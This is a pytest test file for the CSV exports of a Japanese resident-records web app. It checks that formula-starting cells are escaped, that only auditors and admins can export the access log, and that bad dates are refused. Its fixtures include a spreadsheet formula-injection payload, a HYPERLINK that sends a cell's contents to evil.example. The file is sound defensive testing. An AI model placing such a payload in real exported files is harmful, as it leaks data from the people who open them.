"""Every CSV the product hands out neutralises what a spreadsheet would run (webui/csv_export.py): the access log's
CSV with a clerk's free text, the reports' CSV, and the rule cell by cell."""

from __future__ import annotations

import csv
import io

import pytest

from webui.csv_export import FORMULA_STARTS, csv_text, safe_cell

EVIL_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'


def rows_of(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff") and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}HYPERLINK(\"http://evil\")") == f"'{start}HYPERLINK(\"http://evil\")"
    assert list(csv.reader(io.StringIO(csv_text(["h"], [[f"{start}1+1"]]), newline="")))[1] == [f"'{start}1+1"]


def test_plain_values_and_numbers_are_left_alone():
    values = ("山田", "2026-04-01", "a=b", -5, 3.5, None)
    assert [safe_cell(v) for v in values] == ["山田", "2026-04-01", "a=b", -5, 3.5, None]


def test_the_access_log_csv_carries_a_clerks_note_as_text(login, driver):
    registered = driver.register()
    clerk = login("madoguchi", purpose="other")
    clerk.note = EVIL_NOTE  # typed into the 閲覧の目的 form when the page asks
    assert clerk.get(f"/residents/{registered.resident_id}").status_code == 200
    response = login("auditor").get("/audit/access.csv", query_string={"resident_id": registered.resident_id})
    rows = rows_of(response)
    assert rows[0] == ["日時（日本時間）", "職員", "役割", "住民ID", "閲覧した内容", "対象", "目的", "目的の内容"]
    assert rows[1][1:5] == ["madoguchi", "madoguchi", registered.resident_id, "2.2.1 登録内容照会"]
    assert rows[1][7] == "'" + EVIL_NOTE
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert response.headers["Content-Disposition"] == 'attachment; filename="inkan_access_log.csv"'


@pytest.mark.parametrize("role", ["madoguchi", "backyard", "manager"])
def test_only_auditors_and_admins_export_the_access_log(login, role):
    assert login(role).get("/audit/access.csv").status_code == 403


def test_bad_dates_are_refused_not_ignored(login):
    for query in ({"from": "2026-13-01"}, {"to": "yesterday"}, {"from": "1800-01-01"}):
        response = login("auditor").get("/audit/access.csv", query_string=query)
        assert response.status_code == 400 and "2026-04-01 の形式" in response.get_data(as_text=True)
        assert login("auditor").get("/audit/reports.csv", query_string={"table": "instances", **query}).status_code == 400
